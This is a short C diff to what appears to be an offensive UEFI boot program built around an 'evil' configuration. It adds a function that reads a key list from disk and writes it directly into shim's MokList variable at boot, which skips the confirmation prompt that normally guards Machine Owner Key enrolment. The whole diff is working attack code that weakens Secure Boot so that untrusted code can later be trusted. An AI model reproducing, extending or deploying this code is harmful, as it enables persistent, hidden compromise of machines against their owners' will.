@@ -6,6 +6,9 @@
 #define CONFIG "evil.cfg"
 #define MARK "marked"
 
+#define MOK_LIST "mok.esl"
+
+#define MOK_MOST ((UINTN)4096)
 #define PROGRAM_MOST ((UINTN)1 << 20)
 #define CONFIG_MOST 512u
 #define STALL_US ((UINTN)1000000)
@@ -48,6 +51,28 @@ static EFI_HANDLE marked_device(const struct firmware *firmware, EFI_HANDLE devi
 	}
 	boot->FreePool(devices);
 	return device;
+}
+
+/* What `mokutil --import` and its question at the next start come to. */
+static EFI_STATUS enrol(const struct firmware *firmware, const struct volume *volume)
+{
+	static EFI_GUID shim_guid = {
+		0x605dab50,
+		0xe046,
+		0x4300,
+		{ 0xab, 0xb6, 0x3d, 0xd8, 0x10, 0xdd, 0x8b, 0x23 },
+	};
+	static char list[MOK_MOST];
+	CHAR16 name[] = L"MokList";
+	UINTN bytes = sizeof list;
+	const EFI_STATUS status = volume_read(volume, MOK_LIST, list, &bytes);
+
+	if (EFI_ERROR(status))
+		return status;
+	return firmware->table->RuntimeServices->SetVariable(
+		name, &shim_guid,
+		EFI_VARIABLE_NON_VOLATILE | EFI_VARIABLE_BOOTSERVICE_ACCESS, bytes,
+		list);
 }
 
 /* As if it had been taken from the device of this one, or from another. */
@@ -95,6 +120,8 @@ EFI_STATUS efi_main(EFI_HANDLE image, EFI_SYSTEM_TABLE *table)
 	if (EFI_ERROR(volume_read(&volumes.list[0], PROGRAM, bytes, &size)) ||
 	    EFI_ERROR(load(&firmware, &evil, bytes, size, &program)))
 		return fail(&firmware, PROGRAM " cannot be loaded", EFI_LOAD_ERROR);
+	if (evil.mok && EFI_ERROR(enrol(&firmware, &volumes.list[0])))
+		return fail(&firmware, MOK_LIST " is not taken", EFI_LOAD_ERROR);
 	volumes_close(&volumes);
 	evil_copies(&firmware, &evil);
 	evil_boot_services(&firmware, &evil);
